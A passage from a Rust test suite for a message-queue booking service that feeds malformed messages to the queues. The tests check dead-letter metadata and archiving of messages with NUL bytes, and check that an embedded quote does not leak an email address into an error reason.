                "x-autobook-source-queue is {:?}",
                header("x-autobook-source-queue")
            ));
        }
        if reason.trim().is_empty() || header("x-autobook-reason") != Some(reason.as_str()) {
            problem(format!(
                "reason {reason:?}, x-autobook-reason {:?}",
                header("x-autobook-reason")
            ));
        }
        // Bounded (the stream holds 100 KB strings), printable.
        if reason.len() > 4_096 || reason.chars().any(char::is_control) {
            problem(format!(
                "reason is long or has control characters: {reason:?}"
            ));
        }
        if let Some(personal) = PERSONAL.iter().find(|p| reason.contains(**p)) {
            problem(format!(
                "reason quotes personal data {personal:?}: {reason:?}"
            ));
        }
        let stamped = header("x-autobook-dead-lettered-at")
            .and_then(|t| DateTime::parse_from_rfc3339(t).ok());
        match stamped {
            Some(t) if (t.with_timezone(&Utc) - at).num_milliseconds().abs() <= 1 => {}
            _ => problem(format!(
                "x-autobook-dead-lettered-at is {:?}, the row says {at}",
                header("x-autobook-dead-lettered-at")
            )),
        }
    }
    eprintln!("dead letters by role and code: {codes:?}");
    assert!(
        problems.is_empty(),
        "{} of {} dead letters are wrong; the first ones:\n{}",
        problems.len(),
        rows.len(),
        problems[..problems.len().min(20)].join("\n")
    );
    assert_eq!(rows.len(), stream.len());

    // Still alive: every queue has its consumer and nothing is left over;
    // one more trip books.
    for role in QueueRole::ALL {
        let (ready, consumers) = queue_state(&system, &topology.queue(*role)).await;
        assert!(consumers >= 1, "{role:?} has no consumer left");
        assert_eq!(ready, 0, "{role:?} still holds messages");
        let (ready, consumers) = queue_state(&system, &topology.dead_letter_queue(*role)).await;
        assert!(
            consumers >= 1,
            "the archiver left {role:?}'s dead-letter queue"
        );
        assert_eq!(ready, 0, "{role:?}'s dead-letter queue was not archived");
    }
    let last = system
        .submit(trip_with(|t| t["destination"] = "SFO".into()))
        .await;
    phases.extend(book(&system, &[last]).await);
    assert_eq!(
        archived_by_queue(&system).await,
        expected_counts,
        "good messages were dead-lettered"
    );
    let report = autobook::reconcile::reconcile(&phases, &system.ledger());
    assert!(report.ok, "{:?}", report.mismatches);
    // Stopping fails if a role died.
    system.teardown().await;
    eprintln!("hostile stream done in {:?}", started.elapsed());
}

/// Found by the stream above. A dead letter whose AMQP properties hold
/// U+0000 (a header value, or the content type) is moved to its dead-letter
/// queue, but the archiver cannot store it: PostgreSQL refuses U+0000 in
/// `jsonb` ("unsupported Unicode escape sequence") and in `text`. The
/// archiver then requeues it after a 1 s pause, forever, and as it settles
/// one delivery at a time, every such dead letter stalls the archiving of
/// all five dead-letter queues for that second.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nul_in_a_header_does_not_block_the_archive() {
    let system = spawn_with(|config| config.orchestrator.archive_dead_letters = true).await;
    let queue = system.topology.queue(QueueRole::Search);
    let plain = BasicProperties::default()
        .with_content_type("application/json".into())
        .with_delivery_mode(2);
    let mut nul_header = FieldTable::default();
    nul_header.insert("x-note".into(), text("a\u{0}b"));
    let mut messages = vec![
        (
            "nul in a header".to_owned(),
            plain.clone().with_headers(nul_header),
        ),
        (
            "nul in the content type".to_owned(),
            plain
                .clone()
                .with_content_type("application/json\u{0}".into()),
        ),
    ];
    messages.extend((0..20).map(|n| (format!("ordinary {n}"), plain.clone())));
    let stream: Vec<Bad> = messages
        .into_iter()
        .map(|(body, properties)| Bad {
            role: QueueRole::Search,
            kind: Kind::RandomBytes,
            exchange: String::new(),
            routing_key: queue.clone(),
            properties,
            body: body.into_bytes(),
            code: "not_json".into(),
            signer: Identity::Ops,
        })
        .collect();
    let signers = Signers::open(&system).await;
    publish_batch(&signers, &stream).await;
    signers.close().await;
    let deadline = Instant::now() + Duration::from_secs(20);
    let archived = loop {
        let bodies: Vec<(Uuid, Vec<u8>)> = sqlx::query_as("SELECT id, body FROM dead_letters")
            .fetch_all(&system.stack().pool)
            .await
            .unwrap();
        if bodies.len() == stream.len() || Instant::now() > deadline {
            let vault = &system.stack().vault;
            break bodies
                .iter()
                .map(|(id, b)| {
                    let place = Place::dead_letter(id);
                    vault.open_bytes(b, &place, "body").unwrap().into_owned()
                })
                .collect::<Vec<_>>();
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let missing: Vec<String> = stream
        .iter()
        .filter(|m| !archived.contains(&m.body))
        .map(|m| String::from_utf8_lossy(&m.body).into_owned())
        .collect();
    let (ready, _) = queue_state(
        &system,
        &system.topology.dead_letter_queue(QueueRole::Search),
    )
    .await;
    assert!(
        missing.is_empty(),
        "not archived after 20 s: {missing:?} ({ready} ready in the dead-letter queue)"
    );
    system.teardown().await;
}

/// `sanitize` blanks what serde quotes; serde quotes with `{:?}`, so a `"`
/// inside the value arrives as `\"` and must not end the blanking early
/// (the rest of the value would reach the dead-letter reason and the log).
#[test]
fn a_quote_in_a_value_does_not_unmask_it_in_the_reason() {
    let mut trip = trip_json();
    trip["user_id"] = json!("usr\" amelia@example.com");
    let mut rng = Rng::new(SEED);
    let body = to_vec(&wire(&mut rng, "trip.requested", trip));
    let reason = Envelope::decode(&body).unwrap_err().to_string();
    assert!(
        !reason.contains("amelia@example.com"),
        "the reason quotes the value: {reason}"
    );
}
